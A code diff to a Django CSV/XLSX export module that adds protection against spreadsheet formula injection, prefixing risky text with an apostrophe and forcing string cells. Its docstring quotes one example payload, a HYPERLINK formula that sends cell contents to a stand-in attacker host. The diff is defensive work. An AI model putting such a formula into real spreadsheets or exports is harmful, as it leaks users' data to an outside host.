@@ -3,6 +3,11 @@
 Every list page and export passes its already scoped and filtered queryset and the columns
 to show; rows are streamed from ``.iterator()`` so a large export does not hold the table
 in memory twice.
+
+Every cell goes through this module, which neutralises spreadsheet formulas (OWASP "CSV
+injection"): a text that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
+leading apostrophe in CSV, and is written as a string cell (never a formula) in XLSX. A name
+like ``=HYPERLINK("http://evil.example/?d="&C2,"…")`` therefore opens as plain text.
 """
 
 import csv
@@ -14,6 +19,7 @@ from django.http import HttpResponse, StreamingHttpResponse
 from django.utils import timezone
 from django.utils.translation import gettext_lazy as _
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
 
 EXPORT_FORMATS = {"csv": _("CSV"), "xlsx": _("Excel (XLSX)")}
 
@@ -29,12 +35,38 @@ class _Echo:
         return value
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value):
+    """A text that a spreadsheet would read as a formula, made inert with a leading apostrophe."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def _cell(value):
     if value is None:
         return ""
     if hasattr(value, "tzinfo") and getattr(value, "tzinfo", None) is not None:
         return timezone.localtime(value).replace(tzinfo=None)
-    return value
+    if isinstance(value, str):
+        return value
+    if isinstance(value, (int, float)) or hasattr(value, "year"):
+        return value  # numbers, dates and times keep their type
+    return str(value)  # lazy translations, enums, model instances
+
+
+def _xlsx_cell(sheet, value):
+    """A write-only cell; text is always a string cell (openpyxl would store ``=…`` as a formula)."""
+    cell = WriteOnlyCell(sheet, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+    return cell
+
+
+def _csv_cell(value):
+    return neutralise(value)
 
 
 def export_response(rows, columns: list[Column], filename: str, fmt: str):
@@ -43,9 +75,9 @@ def export_response(rows, columns: list[Column], filename: str, fmt: str):
     if fmt == "xlsx":
         workbook = Workbook(write_only=True)
         sheet = workbook.create_sheet(title=str(filename)[:31])
-        sheet.append([str(c.header) for c in columns])
+        sheet.append([_xlsx_cell(sheet, str(c.header)) for c in columns])
         for row in rows:
-            sheet.append([_cell(c.value(row)) for c in columns])
+            sheet.append([_xlsx_cell(sheet, _cell(c.value(row))) for c in columns])
         buffer = io.BytesIO()
         workbook.save(buffer)
         response = HttpResponse(
@@ -58,9 +90,9 @@ def export_response(rows, columns: list[Column], filename: str, fmt: str):
     writer = csv.writer(_Echo(), delimiter=";")
 
     def stream():
-        yield "\ufeff" + writer.writerow([str(c.header) for c in columns])
+        yield "\ufeff" + writer.writerow([_csv_cell(str(c.header)) for c in columns])
         for row in rows:
-            yield writer.writerow([_cell(c.value(row)) for c in columns])
+            yield writer.writerow([_csv_cell(_cell(c.value(row))) for c in columns])
 
     response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
     response["Content-Disposition"] = f'attachment; filename="{filename}-{stamp}.csv"'
